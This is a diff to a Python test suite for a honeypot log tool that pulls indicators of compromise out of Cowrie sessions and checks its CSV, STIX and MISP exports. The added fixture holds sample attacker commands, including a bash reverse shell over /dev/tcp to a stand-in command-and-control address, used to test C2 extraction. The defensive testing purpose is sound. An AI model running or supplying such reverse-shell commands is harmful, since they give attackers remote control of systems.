@@ -88,6 +88,11 @@ def build() -> Log:
         log.session("s1", ip, expect=[])
     log.session("s1", "203.0.113.50", login=False, expect=[])
     log.session("s1", "2001:db8::5", expect=[("src_ip", "2001:db8::5")])
+    # Where the shell was told to connect (reverse shells, /dev/tcp downloaders): c2 targets.
+    log.session("s1", "203.0.113.40", commands=["bash -i >& /dev/tcp/198.51.100.66/4444 0>&1",
+                                                "exec 6<>/dev/tcp/127.0.0.1/80 && cat </dev/tcp/10.0.0.1/1",
+                                                "echo x > /dev/tcp/c2.example.net/53; cat /dev/tcp/198.51.100.67/99999"],
+                expect=[("src_ip", "203.0.113.40"), ("c2", "198.51.100.66:4444"), ("c2", "c2.example.net:53")])
     # Forwarding targets and an upload; a malformed hash is not shared.
     log.session("s0", "203.0.113.30", items=[
         ("cowrie.direct-tcpip.request", {"dst_ip": "198.51.100.25", "dst_port": 25, "src_port": 4}),
@@ -148,7 +153,7 @@ def test_iocs_csv_is_exactly_the_truth(run):
 def test_no_private_or_loopback_address_is_exported(run):
     res, _ = run
     text = "".join((res.out / "iocs" / n).read_text() for n in ("iocs.csv", "stix2.json", "misp.json"))
-    for a in PRIVATE + ["10.1.2.3", "10.0.0.1:80", "localhost", "203.0.113.50", "not-a-hash"]:
+    for a in PRIVATE + ["10.1.2.3", "10.0.0.1:80", "localhost", "203.0.113.50", "not-a-hash", "198.51.100.67"]:
         # as a whole token: 2001:db8::1 holds "::1"
         assert not re.search(r"(?<![0-9A-Za-z:.\[])" + re.escape(a) + r"(?![0-9A-Za-z:.])", text), a
 
